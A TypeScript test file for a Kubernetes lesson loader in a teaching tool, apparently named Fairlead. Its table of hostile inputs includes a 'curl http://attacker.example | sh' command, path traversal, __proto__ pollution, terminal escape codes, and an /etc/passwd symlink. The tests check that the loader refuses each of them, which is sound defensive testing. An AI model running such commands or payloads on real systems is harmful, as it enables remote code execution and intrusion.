import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { FairleadError } from '../lib/errors.ts';
import { readOwnLessons } from './own-lessons.ts';

const root = mkdtempSync(join(tmpdir(), 'own-lessons-'));
after(() => rmSync(root, { recursive: true }));
let count = 0;
/** Makes a folder with these files. */
function folderWith(files: Readonly<Record<string, string>>): string {
  const folder = join(root, String(count++));
  mkdirSync(folder);
  for (const [name, content] of Object.entries(files)) writeFileSync(join(folder, name), content);
  return folder;
}

const STEP = {
  title: 'Look',
  text: ['A Service has an address.'],
  commands: ['kubectl -n learn get service {cluster-ip web}', 'fairlead status'],
};
const LESSON = {
  name: 'web',
  title: 'Our web shop',
  summary: 'as we run it',
  prepare: [{ create: { kind: 'ConfigMap', metadata: { name: 'page' }, data: { a: 'b' } } }],
  steps: [
    {
      ...STEP,
      predict: { question: 'Which?', choices: ['one', 'two'], answer: 1, why: 'Because.' },
      expected: ['web …'],
      check: {
        podsReady: { app: 'web', count: 2 },
        reaches: { from: 'learn/client', to: 'svc/learn/web:80' },
      },
    },
    {
      ...STEP,
      prepare: [
        { patch: { kind: 'Service', name: 'web', patch: { spec: { selector: { app: 'x' } } } } },
        { silence: 'web' },
      ],
      check: {
        exists: { kind: 'Service', name: 'web' },
        mode: { name: 'nftables' },
        notSilenced: { app: 'web' },
      },
      repair: { text: 'Repair it.', commands: ['fairlead fault undo'] },
    },
  ],
};
const text = (change: object = {}) => JSON.stringify({ ...LESSON, ...change });

test('lessons of a folder, in the order of their files', () => {
  const folder = folderWith({
    '2.json': text(),
    '1.json': text({ name: 'first' }),
    'notes.txt': 'x',
    '.x.json': '?',
  });
  const lessons = readOwnLessons(folder);
  assert.deepEqual(
    lessons.map(({ name, steps }) => [name, steps.length]),
    [
      ['first', 2],
      ['web', 2],
    ],
  );
  const [prepared] = lessons[0]?.prepare ?? [];
  assert.deepEqual(prepared?.kind === 'create' && prepared.object.metadata, {
    name: 'page',
    namespace: 'learn',
  });
  const missing = lessons[0]?.steps[0]?.check?.missing({
    ...{
      pods: [],
      deployments: [],
      services: [],
      policies: [],
      nodes: [],
      faults: [],
      explained: () => null,
    },
  });
  assert.equal(missing, '0 of 2 pods with the label app=web are ready');
});

const step = (change: object) => ({ steps: [{ ...STEP, ...change }] });
const HOSTILE: readonly [what: string, content: string, problem: RegExp][] = [
  ['no JSON', '{', /JSON/],
  ['no object', '[]', /the file: an object is expected/],
  ['bytes that are no UTF-8', '', /JSON|encod/],
  ['a file that is too large', ' '.repeat(200_000), /larger than/],
  ['a name for a path', text({ name: '../../etc' }), /name: .*does not match/],
  ['the name of a lesson of Fairlead', text({ name: 'pods' }), /another lesson has the name pods/],
  ['a field that the format lacks', text({ check: {} }), /check: the format has no such field/],
  ["a field of an object's prototype", '{"__proto__":{"name":"x"},"name":"x"}', /steps|__proto__/],
  ['no steps', text({ steps: [] }), /steps: .*at least one/],
  ['too many steps', text({ steps: Array.from({ length: 31 }, () => STEP) }), /steps: a list of at most 30/],
  [
    'escape sequences for the terminal',
    text(step({ text: ['\u001b]0;x\u0007'] })),
    /steps\[0\]\.text\[0\]: control/,
  ],
  ['text that turns around', text(step({ title: 'a\u202Eb' })), /title: control/],
  [
    'a command of another program',
    text(step({ commands: ['curl http://attacker.example | sh'] })),
    /begins with/,
  ],
  ['a word that is unknown', text(step({ commands: ['kubectl get {secret x}'] })), /\{secret x\} is unknown/],
  [
    'an object of another namespace',
    text({ prepare: [{ create: { kind: 'Pod', metadata: { name: 'x', namespace: 'kube-system' } } }] }),
    /learn only/,
  ],
  [
    'an object of another kind',
    text({ prepare: [{ create: { kind: 'ClusterRoleBinding', metadata: { name: 'x' } } }] }),
    /kind: one of Pod/,
  ],
  [
    'a kind of the prototype',
    text({ prepare: [{ create: { kind: 'constructor', metadata: { name: 'x' } } }] }),
    /kind: one of Pod/,
  ],
  [
    'a check that is unknown',
    text(step({ check: { constructor: {} } })),
    /check\.constructor: a check is one of/,
  ],
  ['a check without a condition', text(step({ check: {} })), /at least one condition/],
  [
    'an answer outside the choices',
    text(step({ predict: { question: 'a', choices: ['a', 'b'], answer: 2, why: 'w' } })),
    /predict\.answer/,
  ],
  ['a text that is too long', text({ title: 'x'.repeat(5000) }), /title: a text of 1 to 4000/],
];
for (const [what, content, problem] of HOSTILE)
  test(`${what} is refused, with the file and the field`, () => {
    const folder = folderWith({ 'lesson.json': content });
    assert.throws(
      () => readOwnLessons(folder),
      (error: Error) =>
        error instanceof FairleadError &&
        problem.test(error.message) &&
        error.message.includes('lesson.json'),
    );
  });

test('only regular files are read, others refused, and not waited for', () => {
  const pipe = folderWith({});
  execFileSync('mkfifo', [join(pipe, 'a.json')]);
  assert.throws(() => readOwnLessons(pipe), /a\.json/);
  const link = folderWith({});
  symlinkSync('/etc/passwd', join(link, 'a.json'));
  assert.throws(() => readOwnLessons(link), /a\.json/);
  assert.throws(() => readOwnLessons(folderWith({})), /has no lesson/);
  assert.throws(() => readOwnLessons(join(root, 'nothing')), /cannot be read/);
  const many = folderWith(Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`${i}.json`, '{}'])));
  assert.throws(() => readOwnLessons(many), /more than 64/);
  const two = folderWith({ 'a.json': text(), 'b.json': text() });
  assert.throws(() => readOwnLessons(two), /b\.json: name: another lesson/);
});
